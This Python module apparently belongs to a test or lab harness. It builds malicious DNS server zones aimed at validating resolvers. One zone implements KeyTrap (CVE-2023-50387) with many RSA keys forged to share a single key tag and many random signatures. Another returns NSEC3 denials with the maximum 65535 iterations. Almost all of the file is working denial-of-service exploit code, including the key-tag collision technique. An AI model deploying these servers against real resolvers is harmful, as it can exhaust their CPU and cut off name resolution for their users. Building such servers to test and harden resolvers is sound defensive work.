"""Servers for attacks on a validator's processor: KeyTrap (CVE-2023-50387) and NSEC3 with many iterations."""

import base64
import os

import dns.dnssec
import dns.flags
import dns.message
import dns.name
import dns.rdataclass
import dns.rdatatype
import dns.rdtypes.ANY.NSEC3
import dns.rrset

from .keys import Key, rrsig
from .signing import DNSKEY, EXPIRATION, INCEPTION, NSEC3, RRSIG, bitmap, record

# Many keys for one signature, many signatures for one key, and both.
TRAPS = {"keys": (150, 1), "signatures": (1, 150), "both": (90, 90)}
TAG = 4711


def colliding_keys(count: int) -> list:
    """DNSKEY records of RSA keys with one tag; nobody has the private keys."""
    made = []
    while len(made) < count:
        modulus = bytearray(os.urandom(256))
        modulus[0] |= 0x80
        modulus[-1] |= 1
        modulus[100:102] = b"\0\0"
        # The tag is a sum of pairs of octets, so one pair can make it anything.
        missing = (TAG - dns.dnssec.key_id(rsa_key(modulus))) % 65535
        modulus[100:102] = missing.to_bytes(2, "big")
        item = rsa_key(modulus)
        if dns.dnssec.key_id(item) == TAG:
            made.append(item)
    return made


def rsa_key(modulus: bytes):
    key = b"\x03\x01\x00\x01" + bytes(modulus)
    return record(DNSKEY, f"256 3 8 {base64.b64encode(key).decode()}")


class Base:
    """A zone of one name that is signed on the spot."""

    def __init__(self, key: Key, origin: str):
        self.key, self.origin = key, dns.name.from_text(origin)

    def signed(self, rrset) -> list:
        item = rrsig(rrset.name, rrset.to_rdataset(), self.key, self.origin, INCEPTION, EXPIRATION)
        return [rrset, dns.rrset.from_rdata(rrset.name, rrset.ttl, item)]

    def reply(self, asked, answer=(), authority=()):
        message = dns.message.make_response(asked.message)
        message.flags |= dns.flags.AA
        message.answer, message.authority = list(answer), list(authority)
        return message

    def soa(self):
        return dns.rrset.from_text(self.origin, 60, "IN", "SOA", "ns. h. 1 2 3 4 60")


class Zone(Base):
    """KeyTrap."""

    def __init__(self, key: Key, trap: str):
        super().__init__(key, "keytrap.evil")
        keys, self.signatures = TRAPS[trap]
        records = [key.dnskey, *colliding_keys(keys)]
        self.keys = dns.rrset.from_rdata_list(self.origin, 300, records)

    def answer(self, asked):
        name = dns.name.from_text(asked.name)
        if asked.kind == "DNSKEY":
            return self.reply(asked, self.signed(self.keys))
        address = dns.rrset.from_text(name, 300, "IN", "A", "45.66.6.6")
        template = rrsig(
            name, address.to_rdataset(), self.key, self.origin, INCEPTION, EXPIRATION, key_tag=TAG, algorithm=8
        )
        signatures = [template.replace(signature=os.urandom(256)) for _ in range(self.signatures)]
        return self.reply(asked, [address, dns.rrset.from_rdata_list(name, 300, signatures)])


class Iterated(Base):
    """Denials by NSEC3 with as many iterations as can be written."""

    def __init__(self, key: Key):
        super().__init__(key, "iterated.evil")

    def answer(self, asked):
        if asked.kind == "DNSKEY":
            return self.reply(asked, self.signed(dns.rrset.from_rdata(self.origin, 300, self.key.dnskey)))
        authority = self.signed(self.soa())
        for first in "0", "a", "m":
            owner = dns.name.from_text(first * 32, self.origin)
            item = dns.rdtypes.ANY.NSEC3.NSEC3(
                dns.rdataclass.IN, NSEC3, 1, 0, 65535, b"salt", bytes([255] * 20), bitmap({dns.rdatatype.A, RRSIG})
            )
            authority += self.signed(dns.rrset.from_rdata(owner, 60, item))
        message = self.reply(asked, (), authority)
        message.set_rcode(dns.rcode.NXDOMAIN)
        return message
